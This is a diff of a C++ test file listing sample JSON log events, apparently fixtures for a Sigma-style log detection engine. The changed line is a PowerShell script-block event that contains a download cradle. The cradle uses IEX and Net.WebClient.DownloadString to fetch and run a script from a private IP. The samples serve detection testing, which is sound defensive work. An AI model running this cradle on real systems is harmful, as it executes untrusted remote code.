@@ -24,7 +24,7 @@ namespace varsigma_tests {
         R"({"Channel":"My-Company/Operational","EventID":7,"winlog":{"event_data":{"Image":"a.exe","Hashes":["MD5=1","SHA1=2"]}},"message":"K\u212Aelvin \u00e4\u00c4 \ud83d\udd25"})",
         R"({"eventSource":"iam.amazonaws.com","eventName":"CreateUser","requestParameters":{"userName":"mallory","tags":[]},"responseElements":null,"errorCode":"","score":0.75})",
         R"({"c":[{"d.e":1},{"d":{"e":2}},{"d":{"e":[3,[4,"five"]]}}],"c.d":"flat","n":18446744073709551616,"t":"true"})",
-        R"({"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"})",
+        R"j({"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"})j",
         R"({})",
     };
 }
